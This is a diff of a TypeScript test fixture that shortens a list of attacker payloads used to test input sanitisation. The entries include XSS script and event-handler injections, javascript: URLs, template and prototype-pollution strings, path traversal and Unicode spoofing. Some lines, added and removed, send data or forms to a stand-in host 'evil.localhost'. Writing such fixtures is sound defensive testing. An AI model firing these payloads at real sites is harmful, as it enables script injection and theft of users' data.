@@ -1,87 +1,33 @@
 /** Where payloads try to send something. Nobody listens there: the attempt is what tests look for. */
-export const EVIL = 'http://evil.localhost:9';
-
+const EVIL = 'http://evil.localhost:9';
 /** Set by a script of a payload. */
 const RUN = 'globalThis.pwned=1';
 
-const HTML = [
+/** Texts of an attacker, of each kind: elements, what breaks out of their contents and attributes, URLs, and templates. */
+export const PAYLOADS: readonly string[] = [
   `<script>${RUN}</script>`,
-  `<script src=${EVIL}/a.js></script>`,
-  `<script type=module>import '${EVIL}/b.js'</script>`,
   `</script><script>${RUN}</script>`,
-  `</title><script>${RUN}</script>`,
-  `</textarea><script>${RUN}</script>`,
-  `</noscript><script>${RUN}</script>`,
-  `</option></select><script>${RUN}</script>`,
+  `</title></textarea></noscript></select><script>${RUN}</script>`,
   `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<ScRiPt>${RUN}</sCrIpT>`,
-  `<script/x>${RUN}</script/x>`,
   `<img src=x onerror=${RUN}>`,
-  `<img src=${EVIL}/c.png>`,
-  `<img src="x" onerror="fetch('${EVIL}/d')">`,
-  `<img/src='x'/onerror='${RUN}'>`,
+  `<img src=${EVIL}/a.png>`,
   `<svg onload=${RUN}>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
-  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">`,
   `<math><a xlink:href="javascript:${RUN}">x`,
-  `<body onload=${RUN}>`,
   `<input autofocus onfocus=${RUN}>`,
-  `<details open ontoggle=${RUN}>`,
-  `<video><source onerror=${RUN}></video>`,
-  `<audio src=${EVIL}/e.mp3 autoplay>`,
-  `<iframe src="javascript:${RUN}">`,
   `<iframe srcdoc="<script>parent.pwned=1</script>">`,
-  `<object data="${EVIL}/f.swf">`,
-  `<embed src="javascript:${RUN}">`,
-  `<link rel=stylesheet href=${EVIL}/g.css>`,
-  `<link rel=dns-prefetch href=//evil.localhost>`,
-  `<style>@import '${EVIL}/h.css';*{background:url(${EVIL}/i)}</style>`,
+  `<link rel=stylesheet href=${EVIL}/b.css>`,
+  `<style>@import '${EVIL}/c.css';*{background:url(${EVIL}/d)}</style>`,
   `<base href="${EVIL}/">`,
-  `<meta http-equiv=refresh content="0;url=${EVIL}/j">`,
-  `<form action="${EVIL}/k"><input name=password><button>`,
-  `<a href="javascript:${RUN}">Log in</a>`,
-  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
-  `<a ping="${EVIL}/l" href=/>x</a>`,
-  `<div style="background:url(${EVIL}/m)">`,
+  `<form action="${EVIL}/e"><input name=password><button>`,
   `<dialog open class=gate><form id=search name=body>`,
-  `<template><script>${RUN}</script></template>`,
-  `<!--><script>${RUN}</script>-->`,
-  `<![CDATA[<script>${RUN}</script>]]>`,
   `<x onclick=${RUN} id=app name=app>x</x>`,
-];
-
-/** What breaks out of attributes, URLs, templates, styles and numbers, and what confuses readers and programs. */
-const OTHERS = [
   `" onmouseover="${RUN}" x="`,
-  `' autofocus onfocus='${RUN}' x='`,
   `javascript:${RUN}//`,
-  `JaVaScRiPt://%0a${RUN}`,
-  `data:text/html,<script>${RUN}</script>`,
-  `//evil.localhost/x`,
-  `${EVIL}/n`,
-  `\\\\evil.localhost\\share`,
   '${globalThis.pwned=1}',
   '{{constructor.constructor("globalThis.pwned=1")()}}',
   '{count} {name} {0} %s %o <%= 1 %> #{1}',
-  `;}*{background:url(${EVIL}/o)}`,
   '__proto__',
-  'constructor',
   '../../../v1/api/auth/logout',
-  '..',
-  '.',
   '%2e%2e%2f%2e%2e%2flogout?x=1#y',
-  '&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;',
   '\u202egnp.exe\u202c \u2066x\u2069 \u0000\u0007\u001b[31m\u007f\u2028',
-  'א‎ب\u200f\u061c \ufeff\u200b\u00ad',
-  'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309'.repeat(8),
-  '👩‍👩‍👧‍👦'.repeat(10),
-  'W'.repeat(255),
-  'NaN',
-  'null',
-  '-1e999',
-  '=cmd|" /C calc"!A0',
 ];
-
-/** Texts of an attacker, each at most 255 characters long. */
-export const PAYLOADS: readonly string[] = [...HTML, ...OTHERS];
